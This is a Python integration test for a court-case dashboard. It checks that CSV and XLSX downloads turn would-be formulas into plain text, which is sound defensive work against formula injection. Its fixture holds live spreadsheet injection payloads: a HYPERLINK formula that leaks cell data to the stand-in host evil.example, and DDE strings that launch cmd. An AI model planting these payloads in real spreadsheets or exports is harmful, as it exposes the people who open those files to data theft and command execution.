"""Downloads of hostile text cannot run in a spreadsheet: a case whose fields would be
formulas (CSV/formula injection, OWASP) downloads with each such cell made text.

The crafted case arrives like any case, on the case-events topic through the aggregator.
(Named after test_truth so the extra case does not disturb the truth comparisons.)
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from docketwatch.contract import (
    Article,
    CaseSnapshot,
    Defendant,
)
from tests.dashboard.conftest import Dashboard, publish_case
from tests.dashboard.test_downloads import fetch

pytestmark = pytest.mark.integration

NUMBER = '=HYPERLINK("http://evil.example/?leak="&A1,"1-777/2024")'
JUDGE = "@SUM(1+1)\x07*cmd|' /C calc'!A0"
URL = "+cmd|' /C notepad'!A0"


@pytest.fixture(scope="module")
def formula_case(dashboard: Dashboard) -> str:
    court = dashboard.api("/courts")["data"][0]["court_code"]
    snapshot = CaseSnapshot(
        court_code=court, case_number=NUMBER, receipt_date=date(2024, 12, 20), judge=JUDGE,
        defendants=(Defendant(hidden=True, articles=(Article(article="337", raw="-337"),)),))
    publish_case(dashboard, snapshot, tag="formula", url=URL, sha256="e" * 64)
    return court


def test_csv_cells_that_would_be_formulas_are_text(dashboard: Dashboard,
                                                   formula_case: str) -> None:
    path = f"/api/v1/cases?court={formula_case}&number=HYPERLINK"
    api = dashboard.api(path.removeprefix("/api/v1"))["data"]
    assert [r["case_number"] for r in api] == [NUMBER]  # the API carries it unchanged
    status, body, _ = fetch(dashboard, path + "&format=csv")
    assert status == 200
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    cell = dict(zip(header, row, strict=True))
    assert cell["case_number"] == "'" + NUMBER
    assert cell["judge"] == "'" + JUDGE
    assert cell["source_url"] == "'" + URL
    assert cell["articles"] == "337"


def test_xlsx_cells_that_would_be_formulas_are_text(dashboard: Dashboard,
                                                    formula_case: str) -> None:
    path = f"/api/v1/cases?court={formula_case}&number=HYPERLINK&format=xlsx"
    status, body, _ = fetch(dashboard, path)
    assert status == 200
    sheet = openpyxl.load_workbook(io.BytesIO(body))["data"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["case_number"].value == "'" + NUMBER
    assert cells["judge"].value == "'" + JUDGE.replace("\x07", "\ufffd")  # XML has no BEL
    assert cells["source_url"].value == "'" + URL
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
    with zipfile.ZipFile(io.BytesIO(body)) as z:  # no formula element anywhere in the file
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist()
                       if n.endswith(".xml"))
